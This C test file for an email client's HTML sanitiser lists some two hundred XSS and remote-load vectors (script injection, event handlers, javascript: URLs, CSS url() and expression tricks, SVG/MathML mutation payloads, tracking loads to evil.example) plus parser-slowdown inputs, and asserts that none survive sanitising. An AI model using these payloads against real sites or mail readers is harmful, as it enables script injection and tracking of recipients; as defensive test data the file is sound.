// SPDX-License-Identifier: GPL-3.0-or-later
//
// The sanitiser against what mail brings. Every output is parsed again and held against its own
// allow-list, so that a vector passes only if a browser would find nothing in it either.

#include "../support/cpu-time.h"
#include "harmless.h"
#include "mime/mime-sanitize.h"

#include <string.h>

// Ways to run something, to load something, or to come out of another parser than went in.
static const char *const vectors[] = {
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)</script >",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  "<img src='x'onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<div onmouseover='alert(1)'>x</div>",
  "<p style=\"x:expression(alert(1))\">x</p>",
  "<p style='width:expr/**/ession(alert(1))'>x</p>",
  "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
  "<p style='behavior:url(x.htc)'>x</p>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#1;javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href=vbscript:x>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href=file:///etc/passwd>x</a>",
  "<a href=smb://evil.example/x>x</a>",
  "<a href=mailbox:///x>x</a>",
  "<a href=cid:x>x</a>",
  "<a href='feed:javascript:alert(1)'>x</a>",
  "<a href='//evil.example' ping='//evil.example/p'>x</a>",
  "<a href='/relative'>x</a>",
  "<a href=mail-remote:https://evil.example/>x</a>",
  "<img src=mail-remote:https://evil.example/x.png>",
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<frameset><frame src=//evil.example></frameset>",
  "<object data=//evil.example/x></object>",
  "<embed src=//evil.example/x>",
  "<applet code=x codebase=//evil.example></applet>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=preconnect href=//evil.example>",
  "<link rel=prefetch href=//evil.example>",
  "<link rel=icon href=//evil.example/i>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<meta http-equiv=x-dns-prefetch-control content=on>",
  "<meta http-equiv=Set-Cookie content=x>",
  "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<img src=//evil.example/a.png>",
  "<img srcset='//evil.example/a.png 2x'>",
  "<img src=x lowsrc=//evil.example/a dynsrc=//evil.example/b>",
  "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
  "<image src=//evil.example/a>",
  "<input type=image src=//evil.example/a>",
  "<body background=//evil.example/a>",
  "<table background=//evil.example/a><tr><td background=//evil.example/b>x</table>",
  "<video poster=//evil.example/a><source src=//evil.example/b></video>",
  "<audio src=//evil.example/a autoplay></audio>",
  "<track src=//evil.example>",
  "<bgsound src=//evil.example/a>",
  "<p style='background:url(//evil.example/a)'>x</p>",
  "<p style='background:u\\72l(//evil.example/a)'>x</p>",
  "<p style='background-image:image-set(\"//evil.example/a\" 1x)'>x</p>",
  "<p style='background:-webkit-image-set(url(//evil.example/a) 1x)'>x</p>",
  "<p style='background:cross-fade(url(//evil.example/a),url(//evil.example/b))'>x</p>",
  "<p style='background:-webkit-canvas(x)'>x</p>",
  "<p style='cursor:url(//evil.example/a),auto'>x</p>",
  "<ul style='list-style:url(//evil.example/a)'><li>x</ul>",
  "<p style='content:url(//evil.example/a)'>x</p>",
  "<p style='border-image:url(//evil.example/a) 1'>x</p>",
  "<p style='mask:url(//evil.example/a)'>x</p>",
  "<p style='filter:url(//evil.example/a#x)'>x</p>",
  "<p style='clip-path:url(//evil.example/a)'>x</p>",
  "<p style='shape-outside:url(//evil.example/a)'>x</p>",
  "<p style='--x:url(//evil.example/a);background:var(--x)'>x</p>",
  "<p style='background:url(/**//evil.example/a)'>x</p>",
  "<p style=\"background:url('//evil.example/a'\">x</p>",
  "<p style='background:url(//evil.example/a'>x</p>",
  "<p style='src:local(x)'>x</p>",
  "<p style='position:fixed;top:0'>x</p>",
  "<p style='POSITION : absolute'>x</p>",
  "<p style='position:sticky'>x</p>",
  "<p style='height:100vh'>x</p>",
  "<p style='min-height:calc(100vh - 1px)'>x</p>",
  "<p style='height:100dvh;width:1vmax'>x</p>",
  "<p style='height:100/**/vh'>x</p>",
  "<p style='width:calc(1px //**/* 2px)'>x</p>",
  "<p style='background:url(cid:x@import)'>x</p>",
  "<p style='animation:a 1s'>x</p>",
  "<style>@import '//evil.example/a.css';</style>",
  "<style>@import url(//evil.example/a.css) screen;</style>",
  "<style>@im\\port '//evil.example/a'</style>",
  "<style>@font-face{font-family:x;src:url(//evil.example/f)}p{font-family:x}</style>",
  "<style>@keyframes a{from{background:url(//evil.example/a)}}</style>",
  "<style>p{background:url(//evil.example/a)}</style>",
  "<style>p::before{content:url(//evil.example/a)}</style>",
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  "<style>a:visited{background:url(//evil.example/a)}</style>",
  "<style>@media screen{p{background:url(//evil.example/a)}}</style>",
  "<style>@supports(x:y){p{background:url(//evil.example/a)}}</style>",
  "<style>@charset 'utf-7';</style>",
  "<style>@namespace url(//evil.example);</style>",
  "<style><!--</style><script>alert(1)</script>--></style>",
  "<style>p{color:red}</style/><img src=x onerror=alert(1)>",
  "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
  "<style>*{position:fixed;inset:0}</style>",
  "<style>@media (x</style><script>alert(1)</script>){}</style>",
  "<style>.a{}} body{background:url(//evil.example/a)}</style>",
  "<style>a{b:c;;};;@x;p{height:100vh}</style>",
  "<style>100vh,position:hover,.5vh{height:1/**/vh}</style>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><image href=//evil.example/a></svg>",
  "<svg><use href=//evil.example/a#x></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<svg><desc><noscript><img title='--><img src=x onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
  "onerror=alert(1)&gt;'>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<noframes><img src=x onerror=alert(1)></noframes>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><img src=x onerror=alert(1)></template>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing><img src=x onerror=alert(1)></listing>",
  "<select><style><img src=x onerror=alert(1)></style></select>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version=1?><script>alert(1)</script>",
  "<?php echo 1 ?><img src=x onerror=alert(1)>",
  "</p/onclick=alert(1)>",
  "<p title=\"&quot; onmouseover=alert(1) x=&quot;\">x</p>",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "<img alt='`><script>alert(1)</script>'>",
  "<p id='x\" onclick=\"alert(1)'>x</p>",
  "<p class='a\"b c<d'>x</p>",
  "<p lang='\"><script>'>x</p>",
  "<form action=//evil.example><input name=p><button "
  "formaction=javascript:alert(1)>x</button></form>",
  "<button onclick=alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<isindex action=javascript:alert(1) type=image>",
  "<keygen autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<dialog open>x</dialog>",
  "<slot name=x></slot>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<a/href=javascript:alert(1)>x</a>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<p hidden onclick=alert(1) contenteditable tabindex=1 draggable=true>x</p>",
  "<a target=_top href=https://ok.example>x</a>",
  "<img usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<img src='data:text/html;base64,PHN2Zz4='>",
  "<img src='data:image/png;base64,AAAA\" onerror=alert(1)'>",
  "<img src='https://evil.example/\" onerror=\"alert(1)'>",
  "<img src='cid:x\" onerror=\"alert(1)'>",
  "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
  "<a href='https:\\\\evil.example'>x</a>",
  "<a id=a name=body href=#body>x</a>",
  "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
  "<font face='\"><script>alert(1)</script>' color=red>x</font>",
  "<table><tr><td><svg><desc><td><script>alert(1)</script>",
  "<b><p></b><script>alert(1)</script></p>",
  "<a><table><a href=javascript:alert(1)>",
  "<html manifest=//evil.example/m><body>x",
  "<frameset onload=alert(1)>",
  "\xff\xfe<script>alert(1)</script>",
  "<img src=\"x\0\" onerror=alert(1)>",
  "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61\">x</a>",
};

static void
sanitize (const char *html, gssize length, bool remote, bool quote, MimeSanitized *out)
{
  MimeSanitizeOptions options = {.allow_remote_images = remote, .quote = quote};

  mime_sanitize_html (html, length, &options, out);
}

// What stays alive in a mail reads the person's other mail, or tells the sender it was opened (H2).
static void
test_nothing_harmful_survives (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (vectors); i++) {
    g_autofree char *shown = g_strescape (vectors[i], NULL);

    g_test_message ("%s", shown);
    for (int mode = 0; mode < 4; mode++) {
      g_auto (MimeSanitized) first = {0}, second = {0};

      sanitize (vectors[i], -1, mode & 1, mode & 2, &first);
      harmless_assert (first.html, mode & 1);
      if (!(mode & 1))
        g_assert_null (strstr (first.html, "evil.example/"));
      // What comes out must go in again without growing teeth.
      sanitize (first.html, -1, false, mode & 2, &second);
      harmless_assert (second.html, false);
    }
  }
}

// Vectors side by side, each left open: the ways of one parser's mistakes into the next.
static void
test_nothing_harmful_survives_in_pairs (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (vectors); i++) {
    for (gsize k = 0; k < G_N_ELEMENTS (vectors); k++) {
      g_autofree char *both = g_strconcat (vectors[i], vectors[k], NULL);
      g_auto (MimeSanitized) sanitized = {0};

      sanitize (both, -1, false, false, &sanitized);
      harmless_assert (sanitized.html, false);
    }
  }
}

typedef struct {
  const char *html, *expected;
} Pair;

static void
assert_pairs (const Pair *pairs, gsize n, bool remote, bool quote)
{
  for (gsize i = 0; i < n; i++) {
    g_auto (MimeSanitized) sanitized = {0};

    sanitize (pairs[i].html, -1, remote, quote, &sanitized);
    g_assert_cmpstr (sanitized.html, ==, pairs[i].expected);
  }
}

// A newsletter that comes out as a heap of words is a message lost.
static void
test_layout_stays (void)
{
  static const Pair pairs[] = {
    {"<p align=center style='color:#333; Margin: 0 auto!important'>a <b>b</b></p>",
     "<div class=\"m-body\"><p align=\"center\" style=\"color:#333;margin:0 auto!important\">a "
     "<b>b</b></p></div>"},
    {"<table width=600 cellpadding=0 bgcolor='#fff'><tr><td width='50%'>x</td></tr></table>",
     "<div class=\"m-body\"><table bgcolor=\"#fff\" width=\"600\" cellpadding=\"0\"><tbody><tr><td "
     "width=\"50%\">x</td></tr></tbody></table></div>"},
    {"<style>.a,p.b>i:hover{color:red}</style><p class='a b'>x</p>",
     "<div class=\"m-body\"><style>.m-body .m-a,.m-body p.m-b > i:hover{color:red}</style><p "
     "class=\"m-a m-b\">x</p></div>"},
    {"<body bgcolor=#eee style='margin:0'>x",
     "<div bgcolor=\"#eee\" class=\"m-body\" style=\"background-color:#eee;margin:0\">x</div>"},
    {"<style>body{margin:0} html>body p{color:red} *{line-height:1}</style>",
     "<div class=\"m-body\"><style>.m-body{margin:0}.m-body p{color:red}.m-body "
     "*{line-height:1}</style></div>"},
    {"<style>@media only screen and (max-width:600px){.w{width:100%!important}}</style>",
     "<div class=\"m-body\"><style>@media only screen and (max-width:600px){.m-body "
     ".m-w{width:100%!important}}</style></div>"},
    {"<img src='cid:a@b' width=10 alt='x'>",
     "<div class=\"m-body\"><img alt=\"x\" width=\"10\" src=\"cid:a@b\"></div>"},
    {"<a href='#top' name=x>x</a><h2 id=top>y</h2>",
     "<div class=\"m-body\"><a id=\"m-x\" href=\"#m-top\">x</a><h2 id=\"m-top\">y</h2></div>"},
    {"<pre>\n\n a</pre>", "<div class=\"m-body\"><pre>\n\n a</pre></div>"},
    {"<p style=\"font-family:'Segoe UI',Arial;background:linear-gradient(to right,#fff "
     "0%,rgba(0,0,0,.5) 100%)\">x</p>",
     "<div class=\"m-body\"><p style=\"font-family:'Segoe UI',Arial;background:linear-gradient(to "
     "right,#fff 0%,rgba(0,0,0,.5) 100%)\">x</p></div>"},
    {"<form><label>Name <input></label> <b>ok</b></form>",
     "<div class=\"m-body\">Name  <b>ok</b></div>"},
    {"<o:p>&nbsp;</o:p>&lt;b&gt;", "<div class=\"m-body\">\xc2\xa0&lt;b&gt;</div>"},
    {"<div dir=rtl>\xd8\xb3</div>", "<div class=\"m-body\"><div dir=\"rtl\">\xd8\xb3</div></div>"},
  };

  assert_pairs (pairs, G_N_ELEMENTS (pairs), false, false);
}

// Pictures the person asked for must be found by the engine, and only by it.
static void
test_remote_images_are_renamed_and_counted (void)
{
  const char *html = "<img src='https://a.example/x.png?a=1&amp;b=2'><p "
                     "style='background:url(//b.example/y) no-repeat'>x</p>"
                     "<td background='http://c.example/z'>";
  g_auto (MimeSanitized) kept = {0}, dropped = {0};

  sanitize (html, -1, true, false, &kept);
  g_assert_cmpstr (
    kept.html, ==,
    "<div class=\"m-body\"><img src=\"mail-remote:https://a.example/x.png?a=1&amp;b=2\">"
    "<p style=\"background:url(mail-remote:https://b.example/y) no-repeat\">x</p></div>");
  sanitize (html, -1, false, false, &dropped);
  g_assert_cmpuint (kept.n_remote, ==, 2);
  g_assert_cmpuint (dropped.n_remote, ==, 2);
  g_assert_null (strstr (dropped.html, "example"));
}

// Text hidden from who answers must not be sent in their name (H7), nor change face elsewhere.
static void
test_quote_has_styles_inline_and_hides_nothing (void)
{
  static const Pair pairs[] = {
    {"<style>.k{display:none} p{color:red} #i{color:blue}</style><p id=i class=x>a</p><p "
     "class=k>secret</p>",
     "<p style=\"color:red;color:blue\">a</p>"},
    {"<div style='display:none'>secret</div>b", "b"},
    {"<style>div>b+i{color:red}</style><div><b>a</b><i>c</i></div>",
     "<div><b>a</b><i style=\"color:red\">c</i></div>"},
    {"<style>@media(max-width:600px){p{color:red}}@media screen{p{color:blue}}</style><p>a</p>",
     "<p style=\"color:blue\">a</p>"},
    {"<style>p{display:none}</style><p style='display:block!important'>a</p>",
     "<p style=\"display:none;display:block!important\">a</p>"},
    {"<body style='color:red'>x", "<div style=\"color:red\">x</div>"},
    {"<p class=a id=b><a href='#b'>x</a></p>", "<p><a>x</a></p>"},
  };

  assert_pairs (pairs, G_N_ELEMENTS (pairs), false, true);
}

static void
test_dark_style_is_noticed (void)
{
  g_auto (MimeSanitized) by_media = {0}, by_meta = {0}, none = {0};

  sanitize ("<style>@media (prefers-color-scheme:dark){p{color:#fff}}</style>", -1, false, false,
            &by_media);
  sanitize ("<meta name=color-scheme content='light dark'>", -1, false, false, &by_meta);
  sanitize ("<p>dark</p>", -1, false, false, &none);
  g_assert_true (by_media.has_dark_style);
  g_assert_true (by_meta.has_dark_style);
  g_assert_false (none.has_dark_style);
}

// '$' in TEXT becomes the number, so that no two tags are the same.
static char *
repeat (const char *text, unsigned int n)
{
  GString *all = g_string_new (NULL);

  for (unsigned int i = 0; i < n; i++) {
    for (const char *p = text; *p != '\0'; p++) {
      if (*p == '$')
        g_string_append_printf (all, "%u", i);
      else
        g_string_append_c (all, *p);
    }
  }
  return g_string_free_and_steal (all);
}

// A page made to be slow freezes the reader on every visit.
static void
test_slow_pages_are_given_up (void)
{
  static const char *const bombs[] = {"<div>",
                                      "<p><b id=$>",
                                      "<table><div></div>",
                                      "<a x$=1 ",
                                      "<font></p>",
                                      "<svg><g>",
                                      "</x$>",
                                      "<!--",
                                      "<b><table></b></table>",
                                      "&amp",
                                      "<style>{{{",
                                      "<p style='(((((",
                                      "<style>@media{",
                                      "<select><option>",
                                      "<ul><li>",
                                      "<h1><h2>"};

  for (gsize i = 0; i < G_N_ELEMENTS (bombs); i++) {
    g_autofree char *html = repeat (bombs[i], 200000);
    g_auto (MimeSanitized) sanitized = {0};
    double start = cpu_seconds ();

    sanitize (html, -1, false, i % 2, &sanitized);
    double seconds = cpu_seconds () - start;

    g_test_message ("%s %.2f s", bombs[i], seconds);
    g_assert_cmpfloat (seconds, <, 5.0);
  }
}

static void
test_plain_text_becomes_links_and_quotes (void)
{
  static const Pair pairs[] = {
    {"a <b> & c", "a &lt;b&gt; &amp; c"},
    {"see https://x.example/a?b=1&c=(d), ok",
     "see <a href=\"https://x.example/a?b=1&amp;c=(d)\">https://x.example/a?b=1&amp;c=(d)</a>, ok"},
    {"www.x.example.", "<a href=\"https://www.x.example\">www.x.example</a>."},
    {"(https://x.example/)", "(<a href=\"https://x.example/\">https://x.example/</a>)"},
    {"javascript:alert(1) xhttp://a.example", "javascript:alert(1) xhttp://a.example"},
    {"> a\n>> b\n> c\nd",
     "<blockquote type=\"cite\">a<blockquote type=\"cite\">b</blockquote>c</blockquote>d"},
    {"https://x.example/\"><script>",
     "<a href=\"https://x.example/\">https://x.example/</a>&quot;&gt;&lt;script&gt;"},
  };

  for (gsize i = 0; i < G_N_ELEMENTS (pairs); i++) {
    g_autofree char *html = mime_text_to_html (pairs[i].html);
    g_autofree char *expected =
      g_strdup_printf ("<div style=\"white-space:pre-wrap\">%s</div>", pairs[i].expected);

    g_assert_cmpstr (html, ==, expected);
    harmless_assert (html, false);
  }
}

// What search finds and what a plain reader reads of an HTML message.
static void
test_html_becomes_lines (void)
{
  static const Pair pairs[] = {
    {"<p>a <b>b</b>\n c</p><p>d</p>", "a b c\n\nd\n"},
    {"a<br>b<div>c</div>d", "a\nb\nc\nd\n"},
    {"<blockquote><p>a</p><blockquote>b</blockquote></blockquote>c", "> a\n>\n>> b\nc\n"},
    {"<ul><li>a<li>b</ul>", "• a\n• b\n"},
    {"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n"},
    {"<pre> a\n  b</pre>c", " a\n  b\n\nc\n"},
    {"<style>p{}</style><script>x</script><title>t</title>a&nbsp;&amp;&uuml;", "a &ü\n"},
    {"<div style='display:none'>pre</div>a<img alt=pic src=x>", "a pic\n"},
    {"<p>Sold<img alt=Logo src=x>out <img alt='\U0001f600' src=x>!", "Sold Logo out \U0001f600!\n"},
    {"", ""},
  };

  for (gsize i = 0; i < G_N_ELEMENTS (pairs); i++) {
    g_autofree char *text = mime_html_to_text (pairs[i].html, -1);

    g_assert_cmpstr (text, ==, pairs[i].expected);
  }
}

// Who reads the text of a formatted message can't follow its links.
static void
test_letters_tell_links (void)
{
  static const struct {
    const char *html, *expected;
  } pairs[] = {
    {"<p>See <a href=\"https://example.org/a?b&amp;c\">the <b>page</b></a>, please</p>",
     "See the page <https://example.org/a?b&c>, please\n"},
    {"<a href=\"https://example.org/\">example.org</a>", "example.org\n"},
    {"<a href=\"mailto:a@example.org\">a@example.org</a> <a href=\"mailto:b@example.org\">Bo</a>",
     "a@example.org Bo <mailto:b@example.org>\n"},
    {"<a href=\"https://example.org/\"><img src=\"cid:x\"></a>", "<https://example.org/>\n"},
    {"<a href=\"tel:+4930123\">call</a> <a href=\"#top\">up</a> <a>x</a>", "call up x\n"},
    {"<blockquote type=\"cite\"><a href=\"https://example.org/\">theirs</a></blockquote>",
     "> theirs\n"},
  };

  for (gsize i = 0; i < G_N_ELEMENTS (pairs); i++) {
    g_autofree char *text = mime_html_to_letter (pairs[i].html);

    g_assert_cmpstr (text, ==, pairs[i].expected);
  }
}

// Making a text plain throws away without a word what this does not see.
static void
test_finds_losses (void)
{
  static const struct {
    const char *html;
    MimeHtmlLoss loss;
  } cases[] = {
    {"<div>words</div><ul><li>one</li></ul>", 0},
    {"<div>a <b>b</b></div>", MIME_HTML_LOSS_STYLE},
    {"<div style=\"text-align: center;\">a</div>", MIME_HTML_LOSS_STYLE},
    {"<img src=\"cid:a\">", MIME_HTML_LOSS_IMAGE},
    {"<a href=\"https://example.org/\">example.org</a>", 0},
    {"<a href=\"https://example.org/\">here</a>", 0},
    {"<a href=\"tel:+4930123\">call</a>", MIME_HTML_LOSS_LINK},
    {"<table><tr><td>a</td></tr></table>", MIME_HTML_LOSS_TABLE},
    {"<blockquote type=\"cite\"><b>theirs</b></blockquote>", 0},
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    g_assert_cmpint (mime_html_find_loss (cases[i].html), ==, cases[i].loss);
}

static void
test_text_of_lists (void)
{
  g_autofree char *text = mime_html_to_text (
    "<ol><li>one</li><li>two<ul><li>in</li></ul></li></ol>"
    "<blockquote style=\"margin: 0 0 0 40px; border: none; padding: 0px;\">moved in</blockquote>",
    -1);

  g_assert_cmpstr (text, ==, "1. one\n2. two\n\n  • in\n\nmoved in\n");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/mime/sanitize/nothing-harmful-survives", test_nothing_harmful_survives);
  g_test_add_func ("/mime/sanitize/nothing-harmful-survives-in-pairs",
                   test_nothing_harmful_survives_in_pairs);
  g_test_add_func ("/mime/sanitize/letters-tell-links", test_letters_tell_links);
  g_test_add_func ("/mime/sanitize/layout-stays", test_layout_stays);
  g_test_add_func ("/mime/sanitize/remote-images-are-renamed-and-counted",
                   test_remote_images_are_renamed_and_counted);
  g_test_add_func ("/mime/sanitize/quote-has-styles-inline-and-hides-nothing",
                   test_quote_has_styles_inline_and_hides_nothing);
  g_test_add_func ("/mime/sanitize/dark-style-is-noticed", test_dark_style_is_noticed);
  g_test_add_func ("/mime/sanitize/slow-pages-are-given-up", test_slow_pages_are_given_up);
  g_test_add_func ("/mime/sanitize/plain-text-becomes-links-and-quotes",
                   test_plain_text_becomes_links_and_quotes);
  g_test_add_func ("/mime/sanitize/html-becomes-lines", test_html_becomes_lines);
  g_test_add_func ("/mime/sanitize/finds-losses", test_finds_losses);
  g_test_add_func ("/mime/sanitize/text-of-lists", test_text_of_lists);
  return g_test_run ();
}
